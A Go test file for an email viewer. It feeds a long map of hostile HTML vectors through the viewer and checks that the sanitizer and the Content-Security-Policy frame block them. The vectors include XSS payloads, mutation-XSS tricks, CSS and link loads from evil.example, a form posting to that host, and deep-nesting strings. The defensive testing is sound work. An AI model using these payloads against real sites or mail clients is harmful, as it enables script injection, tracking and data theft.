package demo_test

import (
	"fmt"
	"maps"
	"net/http"
	"slices"
	"strings"
	"testing"
)

// hostile are ways to run a script, to load or send something, or to leave the frame; each succeeds by an alert or a
// request to evil.example.
func hostile() map[string]string {
	return map[string]string{
		"script":                        `<script>alert(1)</script>`,
		"script within script":          `<scr<script>ipt>alert(1)</scr</script>ipt>`,
		"script from elsewhere":         `<script src="https://evil.example/x.js"></script>`,
		"script with a slash":           `<script/x>alert(1)</script>`,
		"handler of an image":           `<img src=x onerror=alert(1)>`,
		"handler after a slash":         `<img/src=x/onerror=alert(1)>`,
		"handler of the body":           `<body onload=alert(1) background="https://evil.example/b.gif">`,
		"handler of a style":            `<div style="animation: x 1s" onanimationstart=alert(1)>x</div><style>@keyframes x{}</style>`,
		"handler of details":            `<details open ontoggle=alert(1)>x</details>`,
		"handler that focuses itself":   `<input autofocus onfocus=alert(1)><a href=# autofocus tabindex=1 onfocus=alert(1)>x</a>`,
		"javascript address":            `<a href="javascript:alert(1)">x</a><img src="javascript:alert(1)">`,
		"javascript with a line break":  `<a href="java&#10;script:alert(1)">x</a>`,
		"javascript with a control":     `<a href=" &#1; javascript:alert(1)">x</a>`,
		"javascript in a frame":         `<iframe src="javascript:alert(1)"></iframe>`,
		"vbscript":                      `<a href="vbscript:alert(1)">x</a>`,
		"data address":                  `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
		"data address in a frame":       `<iframe src="data:text/html,<script>alert(1)</script>"></iframe>`,
		"svg as an image":               `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><image href='https://evil.example/i'/></svg>">`,
		"svg":                           `<svg onload=alert(1)><script>alert(1)</script><image href="https://evil.example/i"/><use href="https://evil.example/u#a"/></svg>`,
		"svg animation":                 `<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>`,
		"svg that hides a style":        `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
		"math that changes when parsed": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
		"math and a link":               `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">`,
		"noscript":                      `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
		"textarea":                      `<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>`,
		"title":                         `<title><img title="</title><img src=x onerror=alert(1)>"></title>`,
		"xmp":                           `<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>`,
		"template":                      `<template><img src=x onerror=alert(1)></template><template shadowrootmode=open><img src=x onerror=alert(1)></template>`,
		"select":                        `<select><style></select><img src=x onerror=alert(1)></style></select>`,
		"comment":                       `<!--><img src=x onerror=alert(1)>--><!--!><img src=x onerror=alert(1)>--!>`,
		"conditional comment":           `<!--[if gte mso 9]><img src=x onerror=alert(1)><![endif]-->`,
		"processing instruction":        `<?xml version="1.0"?><?php echo ?><?import namespace=t implementation="https://evil.example/x.htc">`,
		"cdata":                         `<![CDATA[<img src=x onerror=alert(1)>]]><svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>`,
		"quotes within quotes":          `<p title='"><script>alert(1)</script>'>x</p><img src=x alt="` + "`" + `onerror=alert(1)">`,
		"nul bytes":                     "<scr\x00ipt>alert(1)</script><img src=x one\x00rror=alert(1)>",
		"meta refresh":                  `<meta http-equiv=refresh content="0;url=https://evil.example/m">`,
		"meta refresh to a script":      `<meta http-equiv=refresh content="0;url=data:text/html,<script>alert(1)</script>">`,
		"meta that weakens the policy":  `<meta http-equiv=Content-Security-Policy content="img-src *">`,
		"base":                          `<base href="https://evil.example/"><img src="i.gif"><a href="x">x</a>`,
		"form":                          `<form action="https://evil.example/f" method=post><input name=q value=1><button autofocus>go</button></form>`,
		"form by attribute":             `<button form=x formaction="https://evil.example/f">go</button><form id=x></form>`,
		"style that loads":              `<p style="background:url(https://evil.example/s.gif)">x</p><p style="background-image:url('//evil.example/s.gif')">x</p>`,
		"style that loads, escaped":     `<p style="background:u\72l(https://evil.example/s.gif)">x</p><p style="background:&#117;rl(https://evil.example/s)">x</p>`,
		"style that loads, commented":   `<p style="background:u/**/rl(https://evil.example/s.gif)">x</p>`,
		"style with image-set":          `<p style="background:image-set('https://evil.example/s.gif' 1x);list-style:url(https://evil.example/l)">x</p>`,
		"style with other loads":        `<p style="cursor:url(https://evil.example/c),auto;border-image:url(https://evil.example/b);content:url(https://evil.example/t);filter:url(https://evil.example/f#a)">x</p>`,
		"style that breaks out":         `<div style="width:1px;}body{background:url(https://evil.example/s)}">x</div>`,
		"style sheet that imports":      `<style>@import url(https://evil.example/i.css); @import "https://evil.example/j.css";</style>`,
		"style sheet that loads":        `<style>body{background:url(https://evil.example/b)} @font-face{font-family:f;src:url(https://evil.example/f)} p{font-family:f}</style><p>x</p>`,
		"style sheet from elsewhere":    `<link rel=stylesheet href="https://evil.example/x.css">`,
		aheadOfLink:                     `<link rel=prefetch href="https://evil.example/p"><link rel=preload as=image href="https://evil.example/q"><link rel=preconnect href="https://evil.example"><link rel=dns-prefetch href="//evil.example">`,
		"link to a manifest":            `<link rel=manifest href="https://evil.example/m"><link rel=icon href="https://evil.example/i"><link rel=modulepreload href="https://evil.example/j">`,
		"srcset":                        `<img srcset="https://evil.example/s.gif 1x" src="cid:logo@mail"><picture><source srcset="https://evil.example/t.gif"><img src="cid:logo@mail"></picture>`,
		"background of a table":         `<table background="https://evil.example/t"><tr background="https://evil.example/r"><td background="https://evil.example/d">x</table>`,
		"image input":                   `<input type=image src="https://evil.example/i">`,
		"object and embed":              `<object data="https://evil.example/o"></object><embed src="https://evil.example/e"><applet code="https://evil.example/a"></applet>`,
		aheadOfFrame:                    `<iframe src="https://evil.example/i"></iframe><frameset><frame src="https://evil.example/f"></frameset>`,
		"frame with its own document":   `<iframe srcdoc="<script>alert(1)</script><img src=https://evil.example/d>"></iframe>`,
		"portal and fenced frame":       `<portal src="https://evil.example/p"></portal><fencedframe src="https://evil.example/f"></fencedframe>`,
		"video and audio":               `<video src="https://evil.example/v" poster="https://evil.example/p" autoplay><track src="https://evil.example/t"></video><audio src="https://evil.example/a" autoplay></audio>`,
		"ping":                          `<a href="https://ok.example" ping="https://evil.example/p">x</a>`,
		"link that takes the page":      `<a href="https://evil.example/" target=_top>x</a><a href="https://evil.example/" target=0>x</a>`,
		"overlay":                       `<div style="position:fixed;inset:0;top:0;left:0;width:100%;height:100%;z-index:9999">Sign in again</div>`,
		"overlay, absolute":             `<div style="POSITION : absolute !important;top:-500px">x</div><div style="position:sticky">x</div>`,
		"names that shadow":             `<a id=location href="cid:x">x</a><img name=cookie id=body src="cid:logo@mail"><form name=forms>x</form>`,
		"custom element":                `<x-y is="z" slot="s">x</x-y><p is="x-y">x</p>`,
		"protocol of the page":          `<img src="//evil.example/i.gif"><img src="/\evil.example/i.gif"><img src="\\evil.example\i.gif">`,
		"protocol of files":             `<img src="file:///etc/passwd"><a href="file://evil.example/share">x</a><img src="ftp://evil.example/i">`,
		"images without TLS":            `<img src="http://evil.example/i.gif"><img src="HTTP://evil.example/j.gif"><img src=" http://evil.example/k.gif">`,
		"address of the CRM":            `<img src="/mailconnector/api/v1/session"><img src="http://crm.example/signout"><img src="http://crm.example/mailconnector/admin">`,
		"xlink":                         `<p xlink:href="javascript:alert(1)" xml:base="https://evil.example/">x</p>`,
		"import map":                    `<script type=importmap>{"imports":{"x":"https://evil.example/x.js"}}</script><script type=module>import "x"</script>`,
		"speculation rules":             `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["https://evil.example/s"]}]}</script>`,
		"tags without end":              strings.Repeat("<div ", 1000) + `<img src=x onerror=alert(1)`,
		"huge nesting":                  strings.Repeat("<div>", 5_000) + `<img src=x onerror=alert(1)>`,
		"huge nesting of tables":        strings.Repeat("<table><tr><td>", 500) + `<script>alert(1)</script>`,
		"huge nesting of formatting":    strings.Repeat("<b><i><font>", 1_000) + `<svg onload=alert(1)>`,
		"another character set":         "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
	}
}

// The vectors that no policy holds: a browser connects ahead, without asking for anything. The first wall holds them.
const (
	aheadOfLink  = "link that fetches ahead"
	aheadOfFrame = "frame"
)

func TestHostileMailsAreShownHarmlessly(t *testing.T) {
	v := newViewer(t)
	vectors := hostile()
	names := make(map[string]string) // by id of the message
	var ids []string
	for i, name := range slices.Sorted(maps.Keys(vectors)) {
		id := v.link(composeHTML(t, i, "<p>before</p>"+vectors[name]+"<p>after</p>"))
		names[id] = name
		ids = append(ids, id)
	}
	v.wire.take()
	for batch := range slices.Chunk(ids, 10) {
		for _, images := range []string{"blocked", "allowed"} {
			for i, got := range v.look(bodyPaths(batch, images)) {
				name := names[batch[i]]
				if len(got.Bad) > 0 {
					t.Errorf("%s, images %s: %.500q", name, images, got.Bad)
				}
				if !strings.HasPrefix(got.Text, "before") {
					t.Errorf("%s: shows %q", name, got.Text)
				}
			}
			if n := v.wantQuiet(images, batch, names); n > 0 {
				t.Errorf("%s and those after it, images %s: %d requests left", names[batch[0]], images, n)
			}
		}
	}
	t.Logf("%d hostile mails, each with images blocked and allowed", len(ids))
}

// TestTheFrameHoldsWhatWouldGetThrough shows the same hostile mails as they came, in the frame and under the policy that
// bodies are served with: the second wall holds without the first.
func TestTheFrameHoldsWhatWouldGetThrough(t *testing.T) {
	v := newViewer(t)
	id := v.link(composeHTML(t, 1, "<p>x</p>"))
	res, err := v.rep.Do(t.Context(), http.MethodGet, "/messages/"+id+"/body", nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	_ = res.Body.Close()
	policy := res.Header.Get("Content-Security-Policy")
	vectors := hostile()
	delete(vectors, aheadOfLink)
	delete(vectors, aheadOfFrame)
	v.wire.take()
	for batch := range slices.Chunk(slices.Sorted(maps.Keys(vectors)), 10) {
		var frames []string
		for i, name := range batch {
			path := fmt.Sprint("/raw/", i)
			frames = append(frames, path)
			v.wire.setPage(path, func(w http.ResponseWriter, _ *http.Request) {
				w.Header().Set("Content-Security-Policy", policy)
				w.Header().Set("Content-Type", "text/html; charset=utf-8")
				_, _ = fmt.Fprint(w, "<!DOCTYPE html><body>"+vectors[name])
			})
		}
		v.look(frames)
		if foreign, _ := v.wire.take(); len(foreign) > 0 {
			t.Errorf("%q asked for %q", batch, foreign)
		}
		for _, said := range v.takeSaid() {
			if !strings.HasPrefix(said, "stopped: ") {
				t.Errorf("%q: %s", batch, said)
			}
		}
	}
}

func TestImagesOfAMailShow(t *testing.T) {
	v := newViewer(t)
	id := v.link(composeHTML(t, 1, `<p>a</p><img src="cid:logo@mail"><img src="https://images.example/remote.png"><img src="http://images.example/plain.png">`))
	v.wire.take()
	want := map[string][]string{"allowed": {"CONNECT images.example:443"}}
	for _, images := range []string{"blocked", "allowed"} { // in this order: what is asked for once more may arrive late
		got := v.look([]string{bodyPath(id, images)})[0]
		if len(got.Images) == 0 || got.Images[0].Width != 12 || !strings.Contains(got.Images[0].Src, "/api/v1/content/") {
			t.Errorf("images %s: the image of the mail is %+v", images, got.Images)
		}
		foreign, _ := v.wire.take()
		if !slices.Equal(slices.Compact(foreign), want[images]) {
			t.Errorf("images %s: asked for %q, want %q", images, foreign, want[images])
		}
	}
}
